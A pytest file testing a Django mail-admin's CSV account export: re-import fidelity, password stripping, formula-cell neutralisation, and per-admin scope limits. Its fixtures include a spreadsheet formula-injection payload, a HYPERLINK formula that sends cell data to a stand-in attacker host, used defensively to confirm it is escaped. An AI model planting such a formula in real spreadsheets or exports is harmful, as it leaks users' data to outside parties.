"""Export CSV (accounts search results and containers): what slapd holds comes out in the import's columns
and imports again unchanged (through parse_csv); formula cells are neutralised; passwords never leave; and
the scope is the actor's: another domain, a foreign group or a guessed DN is a 404 and exports nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from urllib.parse import urlencode

import pytest
from django.test import Client

from accounts import services
from accounts.services.account_settings import user_disable
from accounts.services.contacts import contact_create
from aliases.services.addresses import user_set_addresses, user_set_forwarding
from mailadmin.actor import Actor
from mailadmin.audit.models import AuditEntry
from mailadmin.directory import dit
from migration.csv_import import COLUMNS, FORMULA_STARTS, parse_csv
from migration.entries import ImportEntry
from tests.conftest import Persona, Personas

pytestmark = pytest.mark.django_db
Login = Callable[[Persona], Client]
ACTOR = Actor.system("tests")
PASSWORD = "Export-pass-42"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def search_url(base: str, **extra: str) -> str:
    query = {"mode": "simple", "text": "", "match": "starts", "kind": "all", "base": base, "sort": "uid"}
    return "/accounts/search/export.csv?" + urlencode({**query, **extra})


def container_url(dn: str) -> str:
    return "/accounts/browser/export.csv?" + urlencode({"dn": dn})


def download(client: Client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="accounts-')
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def by_uid(body: bytes) -> dict[str, ImportEntry]:
    parsed = list(parse_csv(io.BytesIO(body)))
    assert all(isinstance(e, ImportEntry) for e in parsed), parsed
    return {e.uid: e for e in parsed if isinstance(e, ImportEntry)}


@pytest.fixture
def people(domain: str, unique: Callable[[str], str]) -> dict[str, str]:
    """In a fresh domain: a user with every kind of field (a formula, a phone with +, aliases, forwards), a
    disabled user in a group, a resource and a contact (neither is exported)."""
    org = dit.organization_dn(domain, domain)
    services.group_create(actor=ACTOR, parent_dn=org, name="crew")
    crew = dit.group_dn(org, "crew")
    anna, bert, room = unique("anna"), unique("bert"), unique("room")
    anna_dn = services.user_create(
        actor=ACTOR, container_dn=org, uid=anna, password=PASSWORD, last_name="Müller", first_name="Anna",
        initials="AM", create_mailbox=False,
        person={"display_name": "Anna M.", "phone": "+49 30 1234", "description": EVIL, "title": "@SUM(1)",
                "city": "-Köln", "street": "Line one, 2"},
    )  # fmt: skip
    user_set_addresses(actor=ACTOR, dn=anna_dn, addresses=[f"a1@{domain}", f"a2@{domain}"])
    user_set_forwarding(actor=ACTOR, dn=anna_dn, targets=["out@example.org"], keep_copy=True)
    bert_dn = services.user_create(
        actor=ACTOR, container_dn=crew, uid=bert, password=PASSWORD, last_name="Brand", create_mailbox=False
    )
    user_disable(actor=ACTOR, dn=bert_dn)
    services.user_create(
        actor=ACTOR, container_dn=org, uid=room, password=PASSWORD, last_name="Room 1", create_mailbox=False,
        resource_kind="room",
    )  # fmt: skip
    contact_create(actor=ACTOR, container_dn=org, last_name="Outside", mail="someone@example.org")
    return {"domain": domain, "org": org, "crew": crew, "anna": anna, "bert": bert, "room": room}


def test_an_export_imports_again_unchanged(personas: Personas, login: Login, people: dict[str, str]) -> None:
    domain = people["domain"]
    body = download(login(personas.admin), search_url(dit.domain_dn(domain)))
    found = by_uid(body)
    assert sorted(found) == sorted([people["anna"], people["bert"]])  # users only: no resource, no contact
    assert found[people["anna"]] == ImportEntry(
        where=found[people["anna"]].where,
        uid=people["anna"],
        last_name="Müller",
        first_name="Anna",
        initials="AM",
        mail=f"{people['anna']}@{domain}",
        aliases=(f"a1@{domain}", f"a2@{domain}"),
        forwards=("out@example.org",),
        person={"display_name": "Anna M.", "phone": "+49 30 1234", "description": EVIL, "title": "@SUM(1)",
                "city": "-Köln", "street": "Line one, 2"},
        container_dn=people["org"],
    )  # fmt: skip
    bert = found[people["bert"]]
    assert (bert.disabled, bert.container_dn, bert.password, bert.password_hash) == (
        True, people["crew"], "", ""
    )  # fmt: skip


def test_formula_cells_are_neutralised_and_no_password_leaves(
    personas: Personas, login: Login, people: dict[str, str]
) -> None:
    body = download(login(personas.admin), container_url(people["org"]))
    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == list(COLUMNS)
    for row in rows[1:]:
        assert all(cell[:1] not in FORMULA_STARTS for cell in row), row
        assert row[COLUMNS.index("userPassword")] == ""
    text = body.decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in text and "'+49 30 1234" in text and "'@SUM(1)" in text
    assert PASSWORD not in text and "{SSHA}" not in text


def test_a_container_export_holds_its_subtree(
    personas: Personas, login: Login, people: dict[str, str]
) -> None:
    client = login(personas.admin)
    assert sorted(by_uid(download(client, container_url(people["org"])))) == sorted(
        [people["anna"], people["bert"]]
    )
    assert sorted(by_uid(download(client, container_url(people["crew"])))) == [people["bert"]]
    row = AuditEntry.objects.filter(action="accounts_export", target=people["crew"]).get()
    assert row.actor == personas.admin.uid and row.domains == f",{people['domain']},"


def test_a_search_export_is_the_search(personas: Personas, login: Login, people: dict[str, str]) -> None:
    url = search_url(dit.domain_dn(people["domain"]), text=people["anna"][:6])
    assert sorted(by_uid(download(login(personas.admin), url))) == [people["anna"]]


def test_a_domain_admin_exports_their_domain_only(
    personas: Personas, login: Login, people: dict[str, str]
) -> None:
    dana_a = login(personas.domain_admin_a)
    own = by_uid(download(dana_a, search_url(dit.domain_dn(personas.domain_a))))
    assert {"dana-a", "gary", "ursula"} <= set(own) and "dana-b" not in own
    for url in (
        search_url(dit.domain_dn(people["domain"])),
        search_url(dit.domain_dn(personas.domain_b)),
        search_url(dit.domains_dn()),
        container_url(people["org"]),
        container_url(dit.organization_dn(personas.domain_b, personas.domain_b)),
        container_url(dit.domain_dn("nowhere.test")),
    ):
        response = dana_a.get(url)
        assert response.status_code == 404, url
        assert not getattr(response, "streaming", False)
    assert not AuditEntry.objects.filter(
        action="accounts_export", actor="dana-a", target=people["org"]
    ).exists()


def test_a_group_admin_exports_their_group_only(personas: Personas, login: Login) -> None:
    gary = login(personas.group_admin)
    assert "ursula" in by_uid(download(gary, container_url(personas.group_dn)))
    org_a = dit.organization_dn(personas.domain_a, personas.domain_a)
    assert gary.get(container_url(org_a)).status_code == 404
    assert gary.get(search_url(org_a)).status_code == 404


def test_a_user_and_bad_requests_get_404(personas: Personas, login: Login, people: dict[str, str]) -> None:
    assert login(personas.user).get(container_url(people["org"])).status_code == 404
    admin = login(personas.admin)
    for url in (
        container_url("not a dn"),
        container_url(dit.account_dn(people["org"], people["anna"])),  # an account is no container
        "/accounts/browser/export.csv",
        search_url(dit.domain_dn(people["domain"]), kind="nonsense"),
    ):
        assert admin.get(url).status_code == 404, url


def test_the_pages_offer_the_export(personas: Personas, login: Login, people: dict[str, str]) -> None:
    client = login(personas.admin)
    page = client.get("/accounts/browser/?" + urlencode({"dn": people["org"]})).content.decode()
    assert f'href="{container_url(people["org"]).replace("&", "&amp;")}"' in page and "Export CSV" in page
    query = {"mode": "simple", "text": "", "match": "starts", "kind": "all", "sort": "cn"}
    results = client.get("/accounts/search/?" + urlencode({**query, "base": people["org"]})).content.decode()
    assert "/accounts/search/export.csv?" in results and "Export CSV" in results
